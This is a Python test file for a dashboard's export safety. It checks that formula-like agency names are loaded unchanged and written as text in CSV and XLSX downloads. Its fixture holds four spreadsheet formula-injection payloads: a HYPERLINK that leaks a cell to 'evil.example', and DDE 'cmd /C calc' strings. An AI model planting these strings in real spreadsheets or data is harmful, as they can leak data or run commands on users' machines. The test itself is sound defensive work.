"""A landed report whose agency names a spreadsheet would run as formulas, through the real
pipeline: the contract warns (the rows load unchanged), and every download holds the names as text.

The report is Hoà Bình Q1/2023 (tests/report_files.py) with four agencies renamed as a new user
tried it: `=HYPERLINK(...)&"Sở Tư pháp"`, `+...`, `@...`, `-...`. Before this change the XLSX
download wrote the first one as a live formula (xlsxwriter's default) and the CSV passed every
one through as it is.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import pytest

from dashboards.lib import db, queries
from dashboards.lib.export_safety import csv_bytes, xlsx_bytes
from pipelines.settings import DataPaths
from tests import test_browser
from tests.conftest import run_pipeline_job
from tests.report_files import HOA_BINH_Q1_2023_AGENCIES, _official_layout, write_csv
from tests.test_browser import _open, _wait_or_explain, streamlit_server

# the browser smoke test's fixtures (one Chromium per module, screenshots)
browser = test_browser.browser
shots = test_browser.shots

FORMULA_NAMES = {
    "Sở Tư pháp": '=HYPERLINK("http://evil.example/?leak="&A1,"Sở Tư pháp")&"Sở Tư pháp"',
    "Sở Tài nguyên và Môi trường": "+SUM(1,2)*cmd|' /C calc'!A0",
    "UBND huyện Lạc Sơn": "@SUM(1+1)*cmd|' /C calc'!A0",
    "UBND xã Hợp Thịnh": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def landed(tmp_path_factory: pytest.TempPathFactory) -> DataPaths:
    """One real pipeline run over the report with formula-like names (module-wide: it is slow)."""
    paths = DataPaths(tmp_path_factory.mktemp("formula") / "data").ensure()
    agencies = [(sec, FORMULA_NAMES[name], c) for sec, name, c in HOA_BINH_Q1_2023_AGENCIES]
    rows = _official_layout(agencies, "Tỉnh Hòa Bình", "Quý I/2023")
    write_csv(paths.landing_for("portal_report") / "hb_formula.csv", rows)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CCHC_DATA_DIR", str(paths.root))
        patch.delenv("CCHC_WAREHOUSE_DB", raising=False)
        assert run_pipeline_job().success
    return paths


@pytest.fixture
def served(landed: DataPaths, monkeypatch: pytest.MonkeyPatch) -> DataPaths:
    monkeypatch.setenv("CCHC_DATA_DIR", str(landed.root))
    yield landed
    db.READER.close()


def _serving(paths: DataPaths, sql: str) -> list[tuple]:
    config = dict(db.LOCKED_CONFIG)
    with duckdb.connect(str(paths.serving_db), read_only=True, config=config) as con:
        return con.execute(sql).fetchall()


def test_the_names_load_unchanged_and_the_contract_warns(served: DataPaths) -> None:
    names = {r[0] for r in _serving(served, "select agency_name from marts.dim_agency")}
    assert set(FORMULA_NAMES.values()) <= names
    ((outcome, loaded, quarantined, message),) = _serving(
        served,
        "select outcome, rows_loaded, rows_quarantined, message from audit.loads "
        "where file_name = 'hb_formula.csv'",
    )
    assert (outcome, loaded, quarantined) == ("loaded", 4, 0)
    # the four agency rows (the file's rows 10, 11, 13, 15: sections and headers before them)
    assert "rule agency_name_not_formula_like warned on rows" in message
    assert message.count(",") >= 3 and "loaded unchanged" in message


def _agency_frame() -> object:
    """What the scorecard's bottom-agencies table downloads (the same query and frame)."""
    return queries.agency_ranking("on_time_rate", "17", "quarter", "2023-01-01", "reported", "all")


def test_csv_download_neutralises_formula_cells(served: DataPaths) -> None:
    frame = _agency_frame()
    assert set(FORMULA_NAMES.values()) <= set(frame["agency_name"])
    rows = list(csv.DictReader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    names = {row["agency_name"] for row in rows}
    # each dangerous cell starts with a quote, followed by the name exactly as landed
    assert names == {"'" + name for name in FORMULA_NAMES.values()}
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    # numbers are numbers, not quoted text (a negative count would keep its sign)
    assert all(row["denominator"].isdigit() for row in rows)


MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xlsx_cells(path: Path) -> dict[str, tuple[str | None, str | None, bool]]:
    """Every cell of the first sheet read from the workbook's XML (openpyxl is not a dependency):
    {ref: (type attribute, text, has a formula)}; shared strings resolved to their text, and an
    inline string's text read from the cell (a writer in constant memory writes those)."""
    with zipfile.ZipFile(path) as book:
        shared = (
            [
                "".join(t.text or "" for t in item.iter(f"{MAIN}t"))
                for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            ]
            if "xl/sharedStrings.xml" in book.namelist()
            else []
        )
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter(f"{MAIN}c"):
        kind = cell.get("t")
        value = cell.find(f"{MAIN}v")
        text = value.text if value is not None else None
        if kind == "s" and text is not None:
            text = shared[int(text)]
        elif kind == "inlineStr":
            text = "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))
        cells[cell.get("r")] = (kind, text, cell.find(f"{MAIN}f") is not None)
    return cells


def test_xlsx_download_writes_formula_like_names_as_strings(
    served: DataPaths, tmp_path: Path
) -> None:
    frame = _agency_frame()
    path = tmp_path / "agencies.xlsx"
    path.write_bytes(xlsx_bytes(frame))
    cells = xlsx_cells(path)
    header = {ref: text for ref, (_, text, _) in cells.items() if ref.endswith("1") and
              re.fullmatch(r"[A-Z]+1", ref)}  # fmt: skip
    letter = next(ref[:-1] for ref, text in header.items() if text == "agency_name")
    names = [v for ref, v in cells.items() if re.fullmatch(rf"{letter}([2-9]|\d\d+)", ref)]
    # a string cell (a shared or an inline string) holding the name exactly; no cell is a formula
    assert {text for _, text, _ in names} == set(FORMULA_NAMES.values())
    assert {kind for kind, _, _ in names} <= {"s", "inlineStr"}
    assert not any(formula for _, _, formula in cells.values())


def test_scoped_copies_of_a_pipeline_build(served: DataPaths) -> None:
    """The scope on real marts: Hoà Bình's agencies are Phú Thọ's (25) now, none are Hà Nội's."""
    from dashboards.lib.access import Grant, Viewer

    def agency_rows(provinces: set[str]) -> dict[str, int]:
        viewer = Viewer("t", Grant("leadership", frozenset(provinces)), "demo")
        with duckdb.connect(
            str(db.path_for(viewer)), read_only=True, config=dict(db.LOCKED_CONFIG)
        ) as con:
            tables = con.execute(
                "select table_schema || '.' || table_name from information_schema.columns "
                "where column_name = 'agency_code'"
            ).fetchall()
            assert ("marts.fct_kpi",) in tables and ("marts.fct_dossier_flow",) in tables
            return {
                t: con.execute(
                    f"select count(*) from {t} where agency_code is not null"
                ).fetchone()[0]
                for (t,) in tables
            }

    served_rows = dict(
        _serving(
            served,
            "select 'marts.dim_agency', count(*) from marts.dim_agency union all "
            "select 'marts.fct_kpi', count(*) from marts.fct_kpi where agency_code is not null",
        )
    )
    phu_tho = agency_rows({"25"})
    assert phu_tho["marts.dim_agency"] == served_rows["marts.dim_agency"] == 4
    assert phu_tho["marts.fct_kpi"] == served_rows["marts.fct_kpi"] > 0
    assert set(agency_rows({"01"}).values()) == {0}


@pytest.mark.browser
def test_the_scorecard_downloads_in_a_browser_hold_the_names_as_text(
    landed: DataPaths, browser: object, shots: Path, tmp_path: Path
) -> None:
    """The buttons themselves: the scorecard's lowest agencies, downloaded by Chromium."""
    with streamlit_server(landed.root, CCHC_AUTH="off") as url:
        page = _open(browser, f"{url}/scorecard?province=legacy-17&grain=quarter&period=2023-01-01")
        files = {}
        for kind in ("csv", "xlsx"):
            button = page.locator(f".st-key-dl_bottom_agencies_{kind} button")
            _wait_or_explain(button, page, shots, f"formula_{kind}")
            with page.expect_download() as download:
                button.click()
            files[kind] = tmp_path / f"agencies.{kind}"
            download.value.save_as(files[kind])
        page.close()
    rows = list(csv.DictReader(io.StringIO(files["csv"].read_text(encoding="utf-8-sig"))))
    assert {row["agency_name"] for row in rows} == {"'" + n for n in FORMULA_NAMES.values()}
    cells = xlsx_cells(files["xlsx"])
    assert set(FORMULA_NAMES.values()) <= {text for _, text, _ in cells.values()}
    assert not any(formula for _, _, formula in cells.values())
